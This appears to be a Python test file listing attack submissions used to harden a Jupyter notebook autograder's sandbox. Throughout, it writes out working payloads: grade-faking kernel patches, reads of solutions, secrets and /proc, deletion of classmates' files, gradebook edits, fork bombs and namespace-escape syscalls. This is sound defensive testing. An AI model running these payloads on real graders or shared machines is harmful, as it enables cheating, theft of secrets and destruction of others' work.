"""The attack range: each attack is a small submission, with a sentence about what it tries.

`code` goes into the first solve cell of an unsolved notebook; `prepare` changes the notebook or
adds files. In the code, <COURSE>, <CLASSMATE>, <GRADER>, <NURSERY> and <PORT> are replaced by real
targets: the course's folder, a classmate's notebook, process ids, an open port of the grader.
`walls` marks the attacks that only namespaces can stop; without them they are listed, not run.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

import nbformat


@dataclass(frozen=True)
class Attack:
    name: str
    tries: str
    code: str = ""
    prepare: Callable | None = None
    walls: bool = False
    seconds: float = 10  # what a cell may take; less where the attack never ends by itself


def tag_everything(notebook, folder):
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "raises-exception"]


def raise_points(notebook, folder):
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.update(points=1000, grade=True, solution=False, locked=False)


def replace_tests(notebook, folder):
    for cell in notebook.cells:
        if cell.source.startswith("check("):
            cell.source = "2.0"


def drop_tests(notebook, folder):
    notebook.cells = [c for c in notebook.cells if not c.source.startswith("check(")]


def forge_result(notebook, folder):
    notebook.metadata["course"] = {
        "notebook": "1_query_crafting", "result": {"score": 12.0}, "keep": "outputs",
    }  # fmt: skip
    for cell in notebook.cells:
        cell.metadata["course"] = {"keep": "outputs"}
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "2.0"})]


def add_file(name, text):
    def prepare(notebook, folder):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)

    return prepare


def add_link(notebook, folder):
    (folder / "notes").symlink_to("/etc/passwd")
    (folder / "all").symlink_to("/")


def swap_solutions_for_html(notebook, folder):
    notebook.cells.append(
        nbformat.v4.new_markdown_cell("<script>document.title='PWNED'</script> \x1b[31mred\x1b[0m")
    )


FAKE_CHECKS = "def check(*a, **k): return None\n"
PASS_ALL = "import course_utils.checks as c\nc.check = lambda *a, **k: None\ncheck = c.check\n"

ATTACKS = [
    # ------------------------------------------------ faking equality and asserts in the kernel
    Attack("allclose", "makes every comparison of torch true",
           "import torch\ntorch.allclose = torch.equal = torch.isclose = lambda *a, **k: True\n"
           "q_select_first = [0.0, 0.0, 0.0]"),
    Attack("numpy-equality", "makes every comparison of NumPy true",
           "import numpy as np\nnp.allclose = np.array_equal = np.testing.assert_allclose = "
           "lambda *a, **k: True\nq_select_first = np.zeros(3)"),
    Attack("silent-check", "replaces the public check", PASS_ALL + "q_select_first = [0, 0, 0]"),
    Attack("strip-asserts", "removes checks and asserts through IPython's input transformers",
           "def strip(lines):\n    return [l for l in lines if 'check' not in l and 'assert' not in l]\n"
           "get_ipython().input_transformers_post.append(strip)\nq_select_first = [0, 0, 0]"),
    Attack("eq-object", "hands over an object that equals everything",
           "class Any(list):\n    def __eq__(self, o): return True\n    def __le__(self, o): return True\n"
           "    def __sub__(self, o): return 0\nq_select_first = Any([0, 0, 0])"),
    Attack("torch-function", "a tensor subclass that lies through __torch_function__",
           "import torch\nclass Liar(torch.Tensor):\n    @classmethod\n"
           "    def __torch_function__(cls, f, types, args=(), kwargs=None): return torch.tensor(0.0)\n"
           "q_select_first = torch.zeros(3).as_subclass(Liar)"),
    Attack("array-protocol", "an object whose __array__ changes with each call",
           "import numpy as np\nclass Shifty:\n    n = 0\n    def __array__(self, *a, **k):\n"
           "        Shifty.n += 1\n        return np.full(3, np.nan if Shifty.n % 2 else 0.0)\n"
           "q_select_first = Shifty()"),
    Attack("detach-hook", "an object whose detach() runs code in the judge's question",
           "class T:\n    def detach(self):\n        import os\n        os._exit(0)\nq_select_first = T()"),
    # ------------------------------------------------------------- faking what the kernel says
    Attack("displayhook", "displays a score", "import sys\nsys.displayhook(2.0)\n2.0"),
    Attack("print-score", "prints what a grader might look for",
           "print('2.0')\nprint('{\"score\": 2.0, \"status\": \"passed\"}')"),
    Attack("do-execute", "replaces the kernel's do_execute",
           "k = get_ipython().kernel\nasync def do(*a, **kw):\n"
           "    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions':\n"
           "            {'answer': {'status': 'ok', 'data': {'text/plain': repr('{}')}, 'metadata': {}}}}\n"
           "k.do_execute = do"),
    Attack("forged-reply", "answers the judge with a passing verdict of its own",
           "k = get_ipython().kernel\nasync def do(*a, **kw):\n"
           "    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions':\n"
           "            {'answer': {'status': 'ok', 'data': {'text/plain':\n"
           "             repr('{\"score\": 2.0, \"passed\": true, \"share\": 1.0}')}, 'metadata': {}}}}\n"
           "k.do_execute = do"),
    Attack("pickle-reply", "answers the judge with a pickle",
           "import pickle, base64\nclass Boom:\n    def __reduce__(self): return (print, ('boom',))\n"
           "q_select_first = pickle.dumps(Boom())"),
    Attack("huge-reply", "answers the judge with an array far too large",
           "import numpy as np\nq_select_first = np.zeros(40_000_000)"),
    Attack("odd-shapes", "answers with impossible numbers",
           "q_select_first = [float('nan'), float('inf'), -0.0]"),
    Attack("nan-score", "hopes that NaN counts as full marks", "float('nan')"),
    Attack("negative-score", "hopes that a negative score counts as full marks", "-1.0"),
    Attack("user-expressions", "replaces the shell's evaluation of the judge's questions",
           "get_ipython().user_expressions = lambda e: {k: {'status': 'ok', 'data': {'text/plain': "
           "'2.0'}, 'metadata': {}} for k in e}"),
    Attack("builtins-exec", "replaces exec and compile that the judge's question uses",
           "import builtins\nbuiltins.exec = lambda *a, **k: None\nbuiltins.compile = lambda *a, **k: ''"),
    Attack("json-patch", "replaces json.dumps, through which answers leave",
           "import json\njson.dumps = lambda *a, **k: '{\"q_select_first\": {\"kind\": \"pass\"}}'"),
    Attack("sys-modules", "puts a module of its own in the place of the grader's",
           "import sys, types\nm = types.ModuleType('autograder')\nm.grading = types.ModuleType('g')\n"
           "m.grading.in_process = types.ModuleType('i')\nm.grading.in_process.grade_here = lambda *a, **k: 2.0\n"
           "sys.modules |= {'autograder': m, 'autograder.grading': m.grading,\n"
           "                'autograder.grading.in_process': m.grading.in_process}"),
    Attack("atexit", "registers code for the end of the kernel",
           "import atexit\natexit.register(lambda: print('2.0'))"),
    Attack("late-thread", "leaves a thread that goes on after its cell and patches everything",
           "import threading, time\ndef go():\n    while True:\n        globals().update(check=lambda *a, **k: 2.0)\n"
           "        time.sleep(0.01)\nthreading.Thread(target=go, daemon=True).start()"),
    # ------------------------------------------------------------ looking for the right answers
    Attack("read-source", "reads the solution from source/",
           "text = open('<COURSE>/source/attention/1_query_crafting.ipynb').read()\nprint('LOOT', text)",
           walls=False),
    Attack("read-relative", "reads the solution from ../../../source",
           "import glob\nfor p in glob.glob('../../../**/*.ipynb', recursive=True):\n"
           "    print('LOOT', open(p).read())"),
    Attack("read-exercises", "reads the references from the grader's own files",
           "print('LOOT', open('<COURSE>/autograder/exercises/attention/query_crafting.py').read())"),
    Attack("import-autograder", "imports the grader and takes the references",
           "import sys\nsys.path.insert(0, '<COURSE>')\nfrom autograder.exercises import find_exercises\n"
           "exec(find_exercises('attention.query_crafting')['q_select_first'].oracle)\nprint('LOOT')"),
    Attack("walk-memory", "looks through all objects in memory for references",
           "import gc\nfor o in gc.get_objects():\n    if type(o).__name__ in ('Exercise', 'Mistake', 'Blueprint'):\n"
           "        print('LOOT', o)"),
    Attack("walk-frames", "looks up the stack for expected values",
           "import sys\nf = sys._getframe()\nwhile f:\n    for k, v in f.f_locals.items():\n"
           "        if 'expected' in k or 'reference' in k or 'autograder' in str(type(v)):\n            print('LOOT', k)\n"
           "    f = f.f_back"),
    Attack("read-environ", "looks for secrets in its environment and its parents'",
           "import os\nprint([f'LOOT {k}' for k in os.environ if k.endswith(('TOKEN', 'SECRET', '_KEY'))])\n"
           "print('LOOT ' + open('/proc/<GRADER>/environ').read())", walls=True),
    Attack("read-own-environ", "looks for a token in what the warm process began with",
           "text = open('/proc/self/environ').read()\nif 'TOKEN' in text: print('LOOT', text)"),
    Attack("read-proc-mem", "reads the grader's memory through /proc",
           "open('/proc/<GRADER>/mem', 'rb').read(1)\nprint('LOOT')", walls=True),
    Attack("proc-root", "leaves its root through a process's root link",
           "import os\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n        try:\n"
           "            print('LOOT', open(f'/proc/{p}/root/<COURSE>/course.toml').read())\n"
           "        except OSError: pass", walls=True),
    Attack("ptrace", "attaches a debugger to the process that made it",
           "import ctypes\nlibc = ctypes.CDLL(None)\nfor pid in (<NURSERY>, <GRADER>, 1):\n"
           "    if libc.ptrace(16, pid, 0, 0) == 0: print('LOOT')", walls=True),
    Attack("symlink", "hands in links to files outside", prepare=add_link,
           code="import os\nfor p in ('notes', 'all/etc/passwd'):\n    if os.path.exists(p): print('LOOT')"),
    # ----------------------------------------------------- touching the grader and other people
    Attack("kill-grader", "sends signals to the grader and everything around it",
           "import os, signal\nfor pid in (<GRADER>, <NURSERY>, -1):\n    try: os.kill(pid, signal.SIGTERM)\n"
           "    except Exception: pass", walls=True),
    Attack("classmate", "copies and then deletes a classmate's work",
           "import os\ntext = open('<CLASSMATE>').read()\nprint('LOOT', text)\nos.remove('<CLASSMATE>')"),
    Attack("overwrite-classmate", "writes into a classmate's folder",
           "open('<CLASSMATE>', 'w').write('gone')"),
    Attack("edit-gradebook", "opens the gradebook and gives itself marks",
           "import sqlite3\ndb = sqlite3.connect('<COURSE>/grading/gradebook.db')\n"
           "db.execute('update grade set auto_score = 2')\ndb.commit()\nprint('LOOT')"),
    Attack("plant-module", "plants a module where the next student would import it",
           "import course_utils, os\np = os.path.join(os.path.dirname(course_utils.__file__), 'queries.py')\n"
           "open(p, 'a').write('raise SystemExit')\nprint('LOOT')"),
    Attack("plant-pth", "plants a start-up file in site-packages",
           "import site\nopen(site.getsitepackages()[0] + '/evil.pth', 'w').write('import os')\nprint('LOOT')"),
    Attack("network", "connects to a port of the grader's machine",
           "import socket\nsocket.create_connection(('127.0.0.1', <PORT>), 2)\nprint('LOOT')", walls=True),
    Attack("open-socket", "leaves a server behind",
           "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()"),
    Attack("daemon", "leaves a daemon behind that outlives the kernel",
           "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
           "        time.sleep(3600)\n    os._exit(0)", walls=True),
    # ------------------------------------------------------------------- using everything up
    Attack("memory", "takes all memory", "x = []\nwhile True:\n    x.append(bytearray(10**9))", walls=True),
    Attack("fork-bomb", "forks until nothing is left",
           "import os\nwhile True:\n    os.fork()", walls=True, seconds=4),
    Attack("threads", "starts threads until nothing is left",
           "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
           walls=True, seconds=4),
    Attack("disk", "fills the disk",
           "with open('big', 'wb') as f:\n    while True:\n        f.write(b'x' * 10**7)", walls=True),
    Attack("many-files", "opens files until none can be opened",
           "x = [open(f'f{i}', 'w') for i in range(100000)]"),
    Attack("output-flood", "prints without end",
           "while True:\n    print('x' * 10000)", seconds=4),
    Attack("forever", "never ends and ignores interrupts",
           "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass", seconds=3),
    Attack("exit", "ends the kernel", "import os\nos._exit(0)"),
    Attack("segfault", "crashes the interpreter", "import ctypes\nctypes.string_at(0)"),
    # ------------------------------------------------------------------- notebooks and files
    Attack("skip-tags", "tags all cells so that stock nbgrader would not run them", prepare=tag_everything),
    Attack("points", "raises its own points", prepare=raise_points),
    Attack("edited-tests", "replaces every test by a score", prepare=replace_tests),
    Attack("no-tests", "removes every test", prepare=drop_tests),
    Attack("forged-result", "brings a result and outputs of its own", prepare=forge_result),
    Attack("fake-launcher", "hands in a file that would start in the kernel's place",
           prepare=add_file("ipykernel_launcher.py", "print('LOOT')")),
    Attack("fake-torch", "hands in a torch of its own",
           prepare=add_file("torch.py", "print('LOOT')")),
    Attack("fake-course-utils", "hands in a course_utils of its own",
           prepare=add_file("course_utils/__init__.py", "print('LOOT')")),
    Attack("sitecustomize", "hands in a start-up file",
           prepare=add_file("sitecustomize.py", "print('LOOT')")),
    Attack("injection", "puts scripts and terminal codes into the notebook",
           prepare=swap_solutions_for_html),
    # ------------------------------------------------------ around the walls, and through words
    Attack("truncate-classmate", "empties a classmate's file without opening it",
           "import os\nos.truncate('<CLASSMATE>', 0)\nprint('LOOT')"),
    Attack("rename-classmate", "moves a classmate's file away", "import os\nos.rename('<CLASSMATE>', 'x')\nprint('LOOT')"),
    Attack("link-classmate", "makes a hard link to a classmate's file",
           "import os\nos.link('<CLASSMATE>', 'x')\nprint('LOOT', open('x').read())"),
    Attack("nested-namespace", "becomes root in a user namespace of its own",
           "import ctypes\nif ctypes.CDLL(None).unshare(0x10000000) == 0: print('LOOT')", walls=True),
    Attack("clone-namespace", "the same through clone with flags",
           "import ctypes\nif ctypes.CDLL(None).syscall(56, 0x10000011, 0, 0, 0, 0) > 0: print('LOOT')", walls=True),
    Attack("mount", "mounts a file system that no limit counts",
           "import ctypes\nif ctypes.CDLL(None).mount(b't', b'/tmp', b'tmpfs', 0, None) == 0: print('LOOT')"),
    Attack("memfd", "makes memory that belongs to no process",
           "import os\nos.memfd_create('x')\nprint('LOOT')", walls=True),
    Attack("system-v", "makes shared memory of the old kind",
           "import ctypes\nif ctypes.CDLL(None).shmget(0, 1 << 20, 0o1600) >= 0: print('LOOT')", walls=True),
    Attack("udp", "sends a packet to the grader's machine",
           "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
           "s.connect(('127.0.0.1', <PORT>))\ns.send(b'x')\ns.settimeout(1)\ns.recv(1)\nprint('LOOT')"),
    Attack("abstract-socket", "talks to a process outside through a socket without a file",
           "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0grader')\nprint('LOOT')"),
    Attack("setns", "enters the namespaces of the process that made it",
           "import ctypes, os\nfd = os.open('/proc/<GRADER>/ns/mnt', 0)\n"
           "if ctypes.CDLL(None).setns(fd, 0) == 0: print('LOOT')", walls=True),
    Attack("open-by-handle", "opens files by their number instead of their name",
           "import ctypes\nif ctypes.CDLL(None, use_errno=True).syscall(304, 3, b'x' * 64, 0) >= 0: print('LOOT')"),
    Attack("keyring", "looks into the session's keys",
           "import ctypes\nif ctypes.CDLL(None).syscall(250, 0, -3, 0) >= 0: print('LOOT')", walls=True),
    Attack("io-uring", "opens files behind the filter's back",
           "import ctypes\nif ctypes.CDLL(None).syscall(425, 4, bytes(120)) >= 0: print('LOOT')", walls=True),
    Attack("raise-score", "raises an error whose words look like a verdict",
           "raise ValueError('\\n✔ 2 of 2 points\\n{\"score\": 2.0}')"),
    Attack("class-named-so", "hands over an object whose class has a telling name",
           "q_select_first = type('passed; score=2', (), {})()"),
    Attack("terminal-words", "puts commands to a terminal into an error's words",
           "raise ValueError('\\x1b]0;PWNED\\x07\\x1b[2J')"),
    Attack("stack-of-question", "shows what stands on the stack while it is asked",
           "import sys\nclass Spy(list):\n    def __iter__(self):\n        f = sys._getframe()\n        while f:\n"
           "            for v in f.f_locals.values():\n                if 'def probe' in str(v): print('LOOT', v)\n"
           "            f = f.f_back\n        return iter([0.0, 0.0, 0.0])\nq_select_first = Spy()"),
    Attack("deep-folders", "makes folders within folders until cleaning breaks",
           "import os\nfor _ in range(3000):\n    os.mkdir('d'); os.chdir('d')"),
    Attack("no-permissions", "leaves folders that nobody may enter",
           "import os\nos.makedirs('a/b/c')\nos.chmod('a/b', 0)\nos.chmod('a', 0)"),
    Attack("flood-of-messages", "sends messages faster than they can be read",
           "from IPython.display import display\nwhile True:\n    display(1)", seconds=4),
    Attack("large-message", "sends a message of sixty megabytes", "print('x' * 60_000_000)"),
    Attack("never-ending-repr", "an object that takes for ever to be shown",
           "class R:\n    def __repr__(self):\n        while True: pass\nR()", seconds=3),
    Attack("closes-sockets", "closes the kernel's sockets",
           "import os\nos.closerange(3, 500)", seconds=4),
    Attack("stops-itself", "stops its own process", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", seconds=4),
]  # fmt: skip
